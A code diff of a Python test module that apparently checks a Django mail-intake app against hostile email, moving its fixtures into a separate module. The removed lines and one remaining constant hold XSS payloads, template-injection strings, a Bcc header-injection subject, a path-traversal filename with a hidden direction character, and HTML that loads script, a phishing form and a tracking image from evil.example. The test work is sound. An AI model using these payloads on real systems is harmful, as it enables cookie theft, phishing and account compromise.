@@ -5,8 +5,6 @@ from collections.abc import Iterator
 from dataclasses import dataclass
 from datetime import date, timedelta
 from decimal import Decimal
-from email import policy
-from email.message import EmailMessage
 
 from django.apps import apps
 from django.db import connection
@@ -72,20 +70,7 @@ from houvast.workforce.front import Paper, add_busy_calendar, share_calendar, sh
 from houvast.workorders.front import fill_in
 from making import BY
 from on_the_road import THURSDAY, WEDNESDAY, Road, chosen, make_road
-
-HOSTILE_NAME = '"Alice <script>alert(1)</script> {{7*7}}"'
-HOSTILE_SUBJECT = (
-    "=?utf-8?q?Ketel_=3Cimg_src=3Dx_onerror=3Dalert(2)=3E=0D=0ABcc:_eve@evil.example?="
-)
-HOSTILE_HTML = """
-<html><head><meta http-equiv="refresh" content="0;url=https://evil.example/"></head>
-<body onload="alert(3)"><script src="https://evil.example/x.js"></script>
-<p style="position:fixed">De ketel lekt</p><img src="https://evil.example/seen.gif" onerror="x()">
-<a href="javascript:alert(4)">hier</a><a href="data:text/html,<script>1</script>">daar</a>
-<form action="https://evil.example/"><input name="password"></form><svg onload="alert(5)"></svg>
-<iframe src="https://evil.example/"></iframe></body></html>
-"""
-BOBS_SECRET = "Sleutel ligt onder de rode bloempot"
+from safety.mails import bobs_mail, hostile_mail
 
 HOSTILE_FILE = "<img src=x onerror=alert(8)>\r\nX: x.pdf"
 STICKER_PAGES = ("portal:book", "portal:report_fault")
@@ -143,9 +128,9 @@ class World:
 
 def make_world(cast: Cast) -> World:
     road = make_road(cast)
-    hostile = _taken_in(_hostile_mail())
+    hostile = _taken_in(hostile_mail())
     alice = _side(road, hostile.case, cast.alice, WEDNESDAY)
-    bob = _side(road, _taken_in(_bobs_mail()).case, cast.bob, THURSDAY)
+    bob = _side(road, _taken_in(bobs_mail()).case, cast.bob, THURSDAY)
     attachment = Attachment.objects.filter(message=hostile).order_by("part").first()
     assert attachment is not None
     raw = RawMail.objects.get(message=hostile)
@@ -436,25 +421,3 @@ def _taken_in(raw: bytes) -> Message:
     message = taken_in(kept.pk)
     assert message is not None
     return message
-
-
-def _hostile_mail() -> bytes:
-    mail = EmailMessage(policy=policy.SMTP)
-    mail["To"], mail["Message-ID"] = "hallo@warmhuis.example", "<a@post.example>"
-    mail.set_content("De ketel lekt <script>alert(6)</script> {{ settings.SECRET_KEY }}")
-    mail.add_alternative(HOSTILE_HTML, subtype="html")
-    attack = b"<script>alert(document.cookie)</script>"
-    mail.add_attachment(attack, maintype="text", subtype="html", filename='../../e"v\u202eil.html')
-    mail.add_attachment(
-        b"<svg onload='x()'/>", maintype="image", subtype="svg+xml", filename="x.svg"
-    )
-    head = f"From: {HOSTILE_NAME} <alice@post.example>\r\nSubject: {HOSTILE_SUBJECT}\r\n"
-    return head.encode() + mail.as_bytes()
-
-
-def _bobs_mail() -> bytes:
-    mail = EmailMessage(policy=policy.SMTP)
-    mail["From"], mail["To"] = "Bob Peters <bob@post.example>", "hallo@warmhuis.example"
-    mail["Subject"], mail["Message-ID"] = "Radiator Eikstraat", "<b@post.example>"
-    mail.set_content(BOBS_SECRET)
-    return mail.as_bytes()
